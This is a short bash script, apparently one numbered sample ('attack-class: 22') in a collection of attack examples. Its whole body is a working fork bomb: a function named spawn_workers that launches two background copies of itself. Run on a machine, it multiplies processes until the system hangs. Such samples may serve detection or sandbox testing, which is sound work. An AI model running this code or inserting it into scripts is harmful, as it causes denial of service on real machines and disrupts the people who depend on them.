#!/usr/bin/env bash
# attack-class: 22
# title: f() { f & f & }
# why: each call starts two background copies

spawn_workers() {
  spawn_workers &
  spawn_workers &
}
spawn_workers
